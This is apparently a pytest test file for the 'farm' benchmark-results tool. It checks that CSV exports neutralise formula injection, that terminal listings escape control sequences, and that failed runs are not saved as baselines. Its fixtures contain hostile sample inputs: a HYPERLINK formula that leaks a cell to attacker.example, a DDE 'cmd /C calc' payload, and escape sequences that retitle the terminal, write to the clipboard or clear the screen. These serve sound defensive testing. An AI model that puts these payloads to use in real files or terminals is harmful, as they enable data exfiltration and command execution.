"""What farm exports for people and other tools (issue 31): spreadsheets that run no formula,
terminals that get no escape sequence from data, a job summary that cannot be written said so, the
lab's wide CSV after an import, and no failed run kept as a baseline without a word."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest

from farm.results.csvout import write_records
from farm.results.record import Record

ROOT = Path(__file__).resolve().parents[2]
DATA = ROOT / "tests" / "data"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
# what a results.csv edited by hand (or a pytest farm_record) may carry into a comparison
EVIL = {"metric": '=HYPERLINK("http://attacker.example/?"&A1,"click")', "params": "@SUM(1+1)*cmd|' /C calc'!A0",
        "unit": "+1+1", "benchmark": "-2+3", "setup": "default", "target": "board"}


def farm(*args, env=None, cwd=None):
    environ = {k: v for k, v in os.environ.items() if k != "GITHUB_STEP_SUMMARY"}
    environ.update(env or {})
    return subprocess.run([sys.executable, "-m", "farm.cli", *map(str, args)], capture_output=True, text=True,
                          env=environ, cwd=cwd, timeout=120)


def _run_dir(path: Path, values: list[float], **fields) -> Path:
    path.mkdir(parents=True)
    base = dict(run_id=path.name, timestamp="2026-12-01T10:00:00.000+00:00", target="board", arch="arm64",
                setup="default", image="img", suite="crypto", benchmark="openssl-speed", params="block=16",
                metric="throughput", unit="bytes/s")
    write_records(path / "results.csv", [Record(**{**base, **fields, "repeat": i, "value": v})
                                         for i, v in enumerate(values)])
    return path


def _formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would take for a formula: they start so and are no number."""
    found = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell.startswith(FORMULA_START):
                try:
                    float(cell)
                except ValueError:
                    found.append(cell)
    return found


def test_spreadsheet_safe():
    from farm.results.csvout import spreadsheet_safe

    assert spreadsheet_safe("=1+1") == "'=1+1" and spreadsheet_safe("@SUM(A1)") == "'@SUM(A1)"
    assert spreadsheet_safe("+cmd") == "'+cmd" and spreadsheet_safe("\t=x") == "'\t=x"
    assert spreadsheet_safe("-0.25") == "-0.25" and spreadsheet_safe("-inf") == "-inf"  # numbers stay numbers
    assert spreadsheet_safe("openssl-speed") == "openssl-speed" and spreadsheet_safe(None) == ""


def test_compare_and_qualify_csv_hold_no_formula(tmp_path):
    a = _run_dir(tmp_path / "=A1", [100.0, 101.0, 99.0], **EVIL)
    b = _run_dir(tmp_path / "@B1", [50.0, 51.0, 49.0], **EVIL)
    proc = farm("compare", a, b, "--out", tmp_path / "cmp")
    assert proc.returncode == 0, proc.stderr
    text = (tmp_path / "cmp" / "compare.csv").read_text()
    assert EVIL["metric"].replace('"', '""') in text  # the name is there, as text
    assert _formula_cells(text) == []
    assert any(cell.startswith("-0.") or cell.startswith("0.") for row in csv.reader(io.StringIO(text))
               for cell in row)  # numbers are written as numbers
    proc = farm("qualify", "--baseline", a, "--candidate", b, "--out", tmp_path / "q")
    assert proc.returncode in (0, 1), proc.stderr  # (an unknown unit has no direction)
    qtext = (tmp_path / "q" / "qualify.csv").read_text()
    assert "HYPERLINK" in qtext and _formula_cells(qtext) == []


def test_history_prints_no_terminal_escape_from_names(tmp_path):
    from tests.store.rundirs import make_run

    evil_setup = "x\x1b]0;owned\x07\x1b[2J\x9b31m\u202e"
    run = make_run(tmp_path / "r", "20261201-100000-0123456789ab", started="2026-12-01T10:00:00.000+00:00",
                   setup=evil_setup, kernel="6.1\x1b[31mred")
    env = {"FARM_DB": str(tmp_path / "r.db")}
    assert farm("db", "ingest", run, env=env).returncode == 0
    for by in ("time", "kernel"):
        proc = farm("history", "throughput", "--by", by, env=env)
        assert proc.returncode == 0, proc.stderr
        for char in ("\x1b", "\x07", "\x9b", "\u202e"):
            assert char not in proc.stdout + proc.stderr, (by, repr(char))
        assert "\\x1b]0;owned\\x07" in proc.stdout  # shown, escaped
    proc = farm("history", "throughput", "--json", env=env)
    assert "\x1b" not in proc.stdout  # JSON escapes it itself


def test_place_listings_print_no_terminal_escape(capsys):
    """The coordinator has no authentication: anyone can tag a place with escape sequences."""
    from farm.commands.places import _table

    _table([("PLACE", "TAGS"), ("maaxboard-1", "note=\x1b]52;c;bWFsaWNpb3Vz\x07 board=maaxboard")])
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\\x1b]52;c;" in out


def test_a_step_summary_that_is_a_directory_is_an_error_naming_it(tmp_path):
    out = tmp_path / "imp"
    assert farm("import", "ipbench", DATA / "ipbench-sample.csv", "--setup", "s", "--out", out).returncode == 0
    summary = tmp_path / "summary-dir"
    summary.mkdir()
    proc = farm("report", out, env={"GITHUB_STEP_SUMMARY": str(summary)})
    assert proc.returncode == 2, proc.stderr
    assert f"$GITHUB_STEP_SUMMARY={summary}: cannot append the job summary to it" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert (out / "summary.md").is_file() and (out / "metrics.txt").is_file()  # the run's files are written
    proc = farm("qualify", "--baseline", out, "--candidate", out, "--out", tmp_path / "q",
                env={"GITHUB_STEP_SUMMARY": str(summary)})
    assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr


def test_farm_report_after_an_ipbench_import_writes_the_wide_csv(tmp_path):
    out = tmp_path / "imp"
    assert farm("import", "ipbench", DATA / "ipbench-sample.csv", "--setup", "lab", "--target", "mx",
                "--out", out).returncode == 0
    wide = out / "sweep-mx-lab.csv"
    wide.unlink(missing_ok=True)
    proc = farm("report", out, "--no-step-summary")
    assert proc.returncode == 0, proc.stderr
    # the lab's columns, then the two cycle counts the ipbench file has (as the import wrote them)
    assert wide.read_text().splitlines()[0] == (DATA / "ipbench-sample.csv").read_text().splitlines()[0] == (
        "Requested_Throughput,Receive_Throughput,Send_Throughput,Packet_Size,Minimum_RTT,Average_RTT,"
        "Maximum_RTT,Stdev_RTT,Median_RTT,CPU_Utilisation,Idle_Cycles,Total_Cycles")
    assert len(wide.read_text().splitlines()) == 1 + 13  # the sample's 13 loads


@pytest.mark.parametrize("how", ["status", "stage", "benchmark"])
def test_a_failed_run_is_not_saved_as_a_baseline_without_a_word(tmp_path, how):
    from tests.store.rundirs import make_run

    run = make_run(tmp_path / "r", "20261201-100000-0123456789ab", started="2026-12-01T10:00:00.000+00:00",
                   status="failed" if how == "status" else "passed",
                   failure="openssl speed: exited 1" if how == "stage" else None)
    if how == "benchmark":
        text = (run / "results.csv").read_text().splitlines()
        text.append(text[-1].rsplit(",", 3)[0] + ",failed,1.0,count")
        (run / "results.csv").write_text("\n".join(text) + "\n")
    env = {"FARM_BASELINES": str(tmp_path / "baselines")}
    proc = farm("baseline", "save", run, "--name", "v1", env=env)
    assert proc.returncode == 2, proc.stderr
    assert "did not pass" in proc.stderr and "--allow-failed" in proc.stderr
    assert not (tmp_path / "baselines" / "v1").exists()
    proc = farm("baseline", "save", run, "--name", "v1", "--allow-failed", env=env)
    assert proc.returncode == 0, proc.stderr
    assert (tmp_path / "baselines" / "v1" / "results.csv").is_file()
